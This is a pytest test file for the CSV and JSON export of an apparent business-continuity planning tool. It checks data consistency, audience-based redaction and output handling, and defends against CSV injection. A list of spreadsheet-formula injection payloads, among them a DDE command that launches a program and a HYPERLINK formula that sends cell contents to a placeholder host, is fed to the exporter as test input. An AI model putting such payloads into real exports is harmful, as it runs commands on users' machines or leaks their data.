"""``continuity export``: tables that a spreadsheet may open, that say what the pages say, and nothing their audience may not see."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from click.testing import CliRunner, Result
from continuity.adapters.build import read_folder
from continuity.adapters.cli import main
from continuity.analysis.everything import Analysis
from continuity.export.programme import TABLES
from continuity.export.tables import Column, Table, as_csv, disarmed
from continuity.load import load
from filled import Filler
from hypothesis import given
from hypothesis import strategies as st

ROOT = Path(__file__).parents[2]
SCHEMA = json.loads((ROOT / "docs" / "formats" / "export.schema.json").read_text(encoding="utf-8"))


def run(*arguments: str | Path) -> Result:
    return CliRunner().invoke(main, ["export", *map(str, arguments)])


def table(name: str, audience: str = "internal", plans: Path = ROOT / "plans") -> dict[str, Any]:
    done = run(name, plans, "--format", "json", "--audience", audience, "--as-of", "2026-11-23")
    assert done.exit_code == 0, done.output
    found = json.loads(done.stdout)
    jsonschema.validate(found, SCHEMA)
    return found


@pytest.mark.parametrize("name", TABLES)
def test_both_formats_say_the_same(name: str) -> None:
    found = table(name)
    assert found["table"] == name
    assert found["rows"]
    names = [column["name"] for column in found["columns"]]
    assert len(set(names)) == len(names)
    done = run(name, ROOT / "plans", "--as-of", "2026-11-23")
    head, *rows = csv.reader(io.StringIO(done.stdout_bytes.decode("utf-8"), newline=""))
    assert head == names
    shown = {True: "yes", False: "no", None: ""}
    plain = [[shown[value] if value is None or isinstance(value, bool) else str(value) for value in row.values()] for row in found["rows"]]
    assert [[cell.removeprefix("'") for cell in row] for row in rows] == [[cell.removeprefix("'") for cell in row] for row in plain]


def by(rows: list[dict[str, Any]], **wanted: object) -> list[dict[str, Any]]:
    return [row for row in rows if all(row[key] == value for key, value in wanted.items())]


def test_the_figures_are_those_of_the_analysis() -> None:
    study = Analysis(load(read_folder(ROOT / "plans")).portfolio, date(2026, 11, 23))
    (late,) = by(table("capability")["rows"], service="dispensing", scenario="data-centre-loss")
    assert (late["planned_minutes"], late["rto_minutes"], late["verdict"], late["proven_minutes"]) == (199, 120, "falls-short", None)
    (proven,) = by(table("capability")["rows"], service="epr", scenario="data-centre-loss")
    assert (proven["proven_minutes"], proven["doubts"]) == (95, None)
    (engine,) = by(table("services")["rows"], id="integration-engine")
    assert (engine["rto_minutes"], engine["required_rto_minutes"], engine["rto_verdict"]) == (480, 94, "falls-short")
    risks = table("risks")["rows"]
    assert [row["standing_score"] for row in risks] == [rated.standing.value if rated.standing else "unknown" for rated in study.risks]
    assert by(table("actions")["rows"], id="meridian-contract", overdue=True)
    assert by(table("compliance")["rows"], framework="northmoor-resilience", clause="R6", standing="not-applicable")
    (zero,) = by(table("services")["rows"], id="storage")
    assert zero["rpo_minutes"] == 0, "nought is a value"
    assert zero["required_rto_minutes"] == 0


def test_what_nobody_stated_is_called_unknown_and_what_does_not_apply_is_empty(tmp_path: Path) -> None:
    plans = tmp_path / "plans"
    (plans / "services").mkdir(parents=True)
    (plans / "scenarios").mkdir()
    (plans / "services" / "web.yaml").write_text("name: Web\n", encoding="utf-8")
    (plans / "scenarios" / "fire.yaml").write_text("name: Fire\nloss_class: facility\nloses: [{service: web}]\n", encoding="utf-8")
    (row,) = table("services", plans=plans)["rows"]
    assert (row["rto_minutes"], row["rpo_minutes"], row["mbco_percent"], row["owner"]) == ("unknown", "unknown", "unknown", None)
    assert (row["stopped_in"], row["unknown_in"], row["too_late_in"]) == ("fire", "fire", None)
    assert table("risks", plans=plans)["rows"] == []
    (open_,) = table("strategies", plans=plans)["rows"]
    assert (open_["service"], open_["scenario"], open_["approach"]) == ("web", "fire", None)


def test_an_audience_gets_what_it_may_see(tmp_path: Path) -> None:
    hidden = {"public": 0, "internal": 0, "restricted": 0}
    for audience in hidden:
        assert run("all", ROOT / "plans", "--audience", audience, "--output", tmp_path / audience, "--as-of", "2026-11-23").exit_code == 0
        said = "".join(path.read_text(encoding="utf-8") for path in sorted((tmp_path / audience).iterdir()))
        hidden[audience] = said.count("2026-07-ring-loop") + said.count("Megan Pryce") + said.count("person/helena-marsh")
    incidents = {audience: (tmp_path / audience / "exercises.csv").read_text(encoding="utf-8").count('"incident"') for audience in hidden}
    assert incidents["internal"] < incidents["restricted"], "one incident is restricted as a whole"
    assert "person/" not in (tmp_path / "public" / "services.csv").read_text(encoding="utf-8")
    assert "restricted" in (tmp_path / "public" / "risks.csv").read_text(encoding="utf-8")


#: What OWASP names under CSV injection, and ways round a check of the first letter alone.
ATTACKS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1)',
    " =1", "\u00a0=1", "\u3000+1", "＝1+1", "＠SUM(1)", "\x00=1", "\x0b=1",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_begins_a_formula(attack: str) -> None:
    text = as_csv(Table("t", "T", (Column("a", "A"), Column("b", "B")), ((attack, -5), ('","' + attack, True))))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1][0].startswith("'")
    assert rows[1][1] == "-5", "a number is a number"
    assert len(rows) == 3
    assert all(len(row) == 2 for row in rows)


@given(st.text())
def test_disarming_adds_no_more_than_an_apostrophe(text: str) -> None:
    shown = disarmed(text)
    assert not shown.lstrip(" \u00a0\u3000").startswith(("=", "+", "-", "@", "\t", "\n", "\r"))
    assert shown.removeprefix("'") == "".join(c if c.isprintable() or c in "\n\t" else " " for c in text) or text.startswith("'")
    (row,) = csv.reader(io.StringIO(as_csv(Table("t", "T", (Column("a", "A"),), ((text,),))).partition("\r\n")[2], newline=""))
    assert row == [shown]


def test_hostile_plans_give_tables_without_formulas(tmp_path: Path) -> None:
    for path, text in Filler(("one", "two", "three"), lambda _, __: "=cmd|' /C calc'!A0").plans().items():
        place = tmp_path / "plans" / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(text, encoding="utf-8")
    assert run("all", tmp_path / "plans", "--audience", "restricted", "--output", tmp_path / "out").exit_code == 0
    seen = 0
    for path in (tmp_path / "out").iterdir():
        for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")):
            seen += sum("cmd|" in cell for cell in row)
            assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@"))]
    assert seen > 20


def test_the_command_says_what_there_is_and_writes_where_it_may(tmp_path: Path) -> None:
    listed = run()
    assert [line.split()[0] for line in listed.output.splitlines()] == list(TABLES)
    assert "Did you mean risks?" in run("risk", ROOT / "plans").output
    assert run("all", ROOT / "plans").exit_code == 2
    inside = run("risks", ROOT / "plans", "--output", ROOT / "plans" / "risks.csv")
    assert (inside.exit_code, (ROOT / "plans" / "risks.csv").exists()) == (2, False)
    marked = tmp_path / "risks.csv"
    assert run("risks", ROOT / "plans", "--bom", "--output", marked).exit_code == 0
    assert marked.read_bytes().startswith(b'\xef\xbb\xbf"id","title"')
    assert marked.read_bytes().count(b"\r\n") > 10
    assert run("risks", ROOT / "plans").stdout_bytes == marked.read_bytes()[3:]
